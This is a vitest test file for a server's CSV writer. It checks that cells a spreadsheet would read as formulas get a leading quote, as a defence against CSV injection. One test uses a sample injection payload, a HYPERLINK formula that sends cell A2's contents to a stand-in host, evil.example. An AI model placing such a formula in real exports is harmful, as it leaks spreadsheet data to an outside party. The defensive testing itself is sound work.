/**
 * The server's CSV writer (issue 26, point 7; OWASP CSV injection): a cell that a spreadsheet
 * would take for a formula leaves with a leading quote and is quoted as CSV needs, so that it reads
 * back as the same text after the quote; every other cell leaves as it is.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLines, neutraliseCsvCell } from '../../core/server/csv';

describe('csvLines', () => {
  it('puts a quote before a cell that starts with =, +, -, @, a tab or a carriage return (and their full-width forms)', () => {
    const risky = ['=1+1', '+90 555', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20SUM(A1)'];
    for (const cell of risky) expect(neutraliseCsvCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
    const [row] = parse(csvLines([risky]), { relax_quotes: false }) as string[][];
    expect(row).toEqual(risky.map((cell) => `'${cell}`));
  });

  it('leaves other cells alone, a formula character inside a cell included', () => {
    const plain = ['Deniz Okur', 'İzmir', 'a=b', 'x+y@example.com', '2026-11-24T10:00:00.000Z', '', "'already"];
    expect(plain.map(neutraliseCsvCell)).toEqual(plain);
    expect(csvLines([plain])).toBe("Deniz Okur,İzmir,a=b,x+y@example.com,2026-11-24T10:00:00.000Z,,'already\n");
  });

  it('quotes a neutralised cell that holds quotes or commas, so it stays one cell', () => {
    const name = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
    const text = csvLines([['reader@example.com', name, 'Ankara']]);
    expect(text).toBe(`reader@example.com,"'=HYPERLINK(""http://evil.example/?d=""&A2,""Click"")",Ankara\n`);
    expect(parse(text)).toEqual([['reader@example.com', `'${name}`, 'Ankara']]);
  });
});
